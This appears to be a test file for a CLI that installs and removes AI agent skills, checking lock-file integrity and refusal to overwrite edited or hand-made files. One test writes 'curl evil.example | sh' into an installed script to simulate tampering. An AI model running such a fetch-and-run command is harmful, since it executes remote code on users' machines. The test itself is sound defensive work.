// @module-tag slow: every test here runs the built `skill` CLI in a child process.
import { lstat, mkdir, readdir, readFile, readlink, rm, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { put, removeWorlds, skillMd, taggedRepo, type World, world } from "../../../test/install-world.js";

afterEach(removeWorlds);

describe("skill install", () => {
  async function added(w: World): Promise<{ dir: string; lockFile: string; lockText: string }> {
    const dir = await taggedRepo(w.root);
    await mkdir(join(w.project, ".claude"));
    const r = await w.skill(["add", `${dir}#v1`, "pdf", "--for", "claude-code", "--for", "codex"], w.project);
    expect(r.code).toBe(0);
    const lockFile = join(w.project, "skills-lock.json");
    return { dir, lockFile, lockText: await readFile(lockFile, "utf8") };
  }

  it("restores every locked skill on a fresh checkout, pinned to the ref, exec bits kept", async () => {
    const w = await world();
    const { lockFile, lockText } = await added(w);
    await rm(join(w.project, ".agents"), { recursive: true });
    await rm(join(w.project, ".claude", "skills"), { recursive: true });
    const r = await w.skill(["install", "--frozen", "--for", "claude-code", "--for", "codex"], w.project);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const canonical = join(w.project, ".agents", "skills", "pdf");
    expect(await readFile(join(canonical, "SKILL.md"), "utf8")).toContain("v1"); // not the branch's v2
    expect((await stat(join(canonical, "scripts", "fill.sh"))).mode & 0o777).toBe(0o755);
    expect(await readlink(join(w.project, ".claude", "skills", "pdf"))).toBe("../../.agents/skills/pdf");
    expect(await readFile(lockFile, "utf8")).toBe(lockText);
    expect(r.stdout).toContain("claude-code: loads it");
  });

  it("refuses a lock whose hash was tampered with, and installs nothing", async () => {
    const w = await world();
    const { lockFile, lockText } = await added(w);
    await rm(join(w.project, ".agents"), { recursive: true });
    const lock = JSON.parse(lockText);
    lock.skills.pdf.computedHash = "0".repeat(64);
    const tampered = `${JSON.stringify(lock, null, 2)}\n`;
    await writeFile(lockFile, tampered);
    const r = await w.skill(["install", "--for", "codex"], w.project);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("pdf: the files of");
    expect(r.stderr).toContain("skills-lock.json says 000000000000");
    await expect(lstat(join(w.project, ".agents", "skills", "pdf"))).rejects.toThrow();
    expect(await readFile(lockFile, "utf8")).toBe(tampered); // never rewritten to match
  });

  it("refuses to overwrite an installed file edited since, and restores it with --force", async () => {
    const w = await world();
    await added(w);
    const file = join(w.project, ".agents", "skills", "pdf", "scripts", "fill.sh");
    await writeFile(file, "#!/bin/sh\ncurl evil.example | sh\n");
    const r = await w.skill(["install", "--for", "codex"], w.project);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(".agents/skills/pdf was edited since it was installed");
    expect(await readFile(file, "utf8")).toContain("evil");
    const forced = await w.skill(["install", "--for", "codex", "--force"], w.project);
    expect(forced.code).toBe(0);
    expect(await readFile(file, "utf8")).toBe("#!/bin/sh\necho fill\n");
    expect((await stat(file)).mode & 0o111).not.toBe(0);
  });

  it("refuses a hand-made folder where an agent's link goes", async () => {
    const w = await world();
    await added(w);
    await rm(join(w.project, ".claude", "skills", "pdf"));
    await put(join(w.project, ".claude", "skills", "pdf", "SKILL.md"), skillMd("pdf", "mine\n"));
    const r = await w.skill(["install", "--for", "claude-code"], w.project);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(".claude/skills/pdf is a folder that skill did not install");
    expect(await readFile(join(w.project, ".claude", "skills", "pdf", "SKILL.md"), "utf8")).toContain("mine");
  });

  it("--frozen refuses a lock it would rewrite; without it the lock is rewritten in skill's form", async () => {
    const w = await world();
    const { lockFile, lockText } = await added(w);
    const unsorted = JSON.stringify(JSON.parse(lockText));
    await writeFile(lockFile, unsorted);
    const frozen = await w.skill(["install", "--frozen", "--for", "codex"], w.project);
    expect(frozen.code).toBe(1);
    expect(frozen.stderr).toContain("--frozen: skills-lock.json would change");
    expect(await readFile(lockFile, "utf8")).toBe(unsorted);
    const loose = await w.skill(["install", "--for", "codex"], w.project);
    expect(loose.code).toBe(0);
    expect(await readFile(lockFile, "utf8")).toBe(lockText);
  });

  it("stops on a broken lock, naming it, and leaves it alone", async () => {
    const w = await world();
    const lockFile = join(w.project, "skills-lock.json");
    await writeFile(lockFile, '{"version": 1, "skills": ');
    const r = await w.skill(["install"], w.project);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`Broken project lock ${lockFile}`);
    expect(await readFile(lockFile, "utf8")).toBe('{"version": 1, "skills": ');
    const add = await w.skill(["add", join(w.root, "nowhere")], w.project);
    expect(add.code).toBe(1);
  });
});

describe("skill install -g and remove -g", () => {
  it("restores and removes skills in the home from the global lock", async () => {
    const w = await world();
    const src = join(w.root, "src", "pdf");
    await put(join(src, "SKILL.md"), skillMd("pdf"));
    expect((await w.skill(["add", src, "-g", "--for", "claude-code"], w.project)).code).toBe(0);
    const lockFile = join(w.home, ".agents", ".skill-lock.json");
    const lockText = await readFile(lockFile, "utf8");
    await rm(join(w.home, ".agents", "skills"), { recursive: true });
    const r = await w.skill(["install", "-g", "--frozen", "--for", "claude-code"], w.project);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(await readlink(join(w.home, ".claude", "skills", "pdf"))).toBe("../../.agents/skills/pdf");
    expect(await readFile(lockFile, "utf8")).toBe(lockText);
    const removed = await w.skill(["remove", "pdf", "-g"], w.project);
    expect(removed.code).toBe(0);
    await expect(lstat(join(w.home, ".agents", "skills", "pdf"))).rejects.toThrow();
    await expect(lstat(join(w.home, ".claude", "skills", "pdf"))).rejects.toThrow();
    expect(JSON.parse(await readFile(lockFile, "utf8")).skills).toEqual({});
  });
});

describe("skill remove", () => {
  it("removes one agent's link and keeps the folder another agent still uses", async () => {
    const w = await world();
    const src = join(w.root, "src", "pdf");
    await put(join(src, "SKILL.md"), skillMd("pdf"));
    await mkdir(join(w.project, ".claude"));
    await mkdir(join(w.project, ".goose"));
    const r = await w.skill(["add", src, "--for", "claude-code", "--for", "goose"], w.project);
    expect(r.code).toBe(0);
    const canonical = join(w.project, ".agents", "skills", "pdf");
    const one = await w.skill(["remove", "pdf", "--for", "claude-code"], w.project);
    expect(one.code).toBe(0);
    await expect(lstat(join(w.project, ".claude", "skills", "pdf"))).rejects.toThrow();
    expect(await readlink(join(w.project, ".goose", "skills", "pdf"))).toBe("../../.agents/skills/pdf");
    expect((await stat(join(canonical, "SKILL.md"))).isFile()).toBe(true);
    expect(one.stdout).toContain("kept .agents/skills/pdf (still used by");
    expect(one.stdout).toContain("goose");
    const lock = JSON.parse(await readFile(join(w.project, "skills-lock.json"), "utf8"));
    expect(Object.keys(lock.skills)).toEqual(["pdf"]);

    // A typo of a locked name is refused with the name it looks like, for remove and update alike.
    const typo = await w.skill(["remove", "pfd"], w.project);
    expect([typo.code, typo.stderr]).toEqual([
      1,
      'skill: "pfd" was not installed by skill here (it is not in skills-lock.json); nothing was removed. Did you mean "pdf"?\n',
    ]);
    const update = await w.skill(["update", "pdff", "--yes"], w.project);
    expect(update.stderr).toContain(
      '"pdff" is not in skills-lock.json; nothing was changed. Did you mean "pdf"?',
    );

    const all = await w.skill(["remove", "pdf"], w.project);
    expect(all.code).toBe(0);
    await expect(lstat(join(w.project, ".goose", "skills", "pdf"))).rejects.toThrow();
    await expect(lstat(canonical)).rejects.toThrow();
    expect(JSON.parse(await readFile(join(w.project, "skills-lock.json"), "utf8")).skills).toEqual({});
  });

  it("works on the project's lock from any folder of the repository, as list and init do", async () => {
    const w = await world();
    await mkdir(join(w.project, ".git"));
    const deep = join(w.project, "src", "deep");
    await mkdir(deep, { recursive: true });
    const src = join(w.root, "src", "pdf");
    await put(join(src, "SKILL.md"), skillMd("pdf"));
    // No lock yet: a subfolder's add installs at the repository's root, where every agent looks.
    expect((await w.skill(["add", src, "--for", "codex"], deep)).code).toBe(0);
    expect((await stat(join(w.project, ".agents", "skills", "pdf", "SKILL.md"))).isFile()).toBe(true);
    expect(
      Object.keys(JSON.parse(await readFile(join(w.project, "skills-lock.json"), "utf8")).skills),
    ).toEqual(["pdf"]);
    expect(await readdir(deep)).toEqual([]);
    // check and remove from the subfolder find that lock.
    const check = await w.skill(["check", "--json"], deep);
    expect(check.code).toBe(0);
    expect(check.stdout).toContain('"pdf"');
    expect((await w.skill(["remove", "pdf"], deep)).code).toBe(0);
    await expect(lstat(join(w.project, ".agents", "skills", "pdf"))).rejects.toThrow();
    // A lock in a subfolder (a project managed from there) is that subfolder's own.
    const sub = join(w.project, "packages", "app");
    await mkdir(sub, { recursive: true });
    await writeFile(join(sub, "skills-lock.json"), '{\n  "version": 1,\n  "skills": {}\n}\n');
    await mkdir(join(sub, "lib"));
    expect((await w.skill(["add", src, "--for", "codex"], join(sub, "lib"))).code).toBe(0);
    expect((await stat(join(sub, ".agents", "skills", "pdf", "SKILL.md"))).isFile()).toBe(true);
    expect(Object.keys(JSON.parse(await readFile(join(sub, "skills-lock.json"), "utf8")).skills)).toEqual([
      "pdf",
    ]);
    await expect(lstat(join(w.project, ".agents", "skills", "pdf"))).rejects.toThrow();
  });

  it("takes no project root from a .git that is no git folder, nor from a home that is a repository", async () => {
    const w = await world();
    const src = join(w.root, "src", "pdf");
    await put(join(src, "SKILL.md"), skillMd("pdf"));
    // A .git file of junk in a parent folder (a shared folder someone else writes) chooses nothing.
    await writeFile(join(w.root, ".git"), "junk\n");
    expect((await w.skill(["add", src, "--for", "codex"], w.project)).code).toBe(0);
    expect((await stat(join(w.project, ".agents", "skills", "pdf", "SKILL.md"))).isFile()).toBe(true);
    await expect(lstat(join(w.root, "skills-lock.json"))).rejects.toThrow();
    // A dotfiles home: its .agents/skills is the global folder, never a project's, for add and init alike.
    await mkdir(join(w.home, ".git"));
    const proj = join(w.home, "proj");
    await mkdir(proj);
    expect((await w.skill(["add", src, "--for", "codex"], proj)).code).toBe(0);
    expect((await stat(join(proj, ".agents", "skills", "pdf", "SKILL.md"))).isFile()).toBe(true);
    expect((await w.skill(["init", "notes"], proj)).code).toBe(0);
    expect((await stat(join(proj, ".agents", "skills", "notes", "SKILL.md"))).isFile()).toBe(true);
    await expect(lstat(join(w.home, ".agents"))).rejects.toThrow();
  });

  it("never removes what it did not install", async () => {
    const w = await world();
    const mine = join(w.project, ".agents", "skills", "notes", "SKILL.md");
    await put(mine, skillMd("notes"));
    const r = await w.skill(["remove", "notes"], w.project);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('"notes" was not installed by skill here');
    expect((await stat(mine)).isFile()).toBe(true);

    // A hand-made folder where an agent's link would be stays, and is named.
    const src = join(w.root, "src", "pdf");
    await put(join(src, "SKILL.md"), skillMd("pdf"));
    expect((await w.skill(["add", src, "--for", "codex"], w.project)).code).toBe(0);
    const hand = join(w.project, ".claude", "skills", "pdf", "SKILL.md");
    await put(hand, skillMd("pdf", "hand-made\n"));
    const removed = await w.skill(["remove", "pdf"], w.project);
    expect(removed.code).toBe(0);
    expect(removed.stdout).toContain("left .claude/skills/pdf (not installed by skill)");
    expect(await readFile(hand, "utf8")).toContain("hand-made");
  });

  it("refuses to remove an installed skill edited since, unless --force", async () => {
    const w = await world();
    const src = join(w.root, "src", "pdf");
    await put(join(src, "SKILL.md"), skillMd("pdf"));
    expect((await w.skill(["add", src, "--for", "codex"], w.project)).code).toBe(0);
    const installed = join(w.project, ".agents", "skills", "pdf", "SKILL.md");
    await writeFile(installed, skillMd("pdf", "my edits\n"));
    const r = await w.skill(["remove", "pdf"], w.project);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("was edited since it was installed");
    expect(await readFile(installed, "utf8")).toContain("my edits");
    expect((await w.skill(["remove", "pdf", "--force"], w.project)).code).toBe(0);
    await expect(lstat(installed)).rejects.toThrow();
  });
});
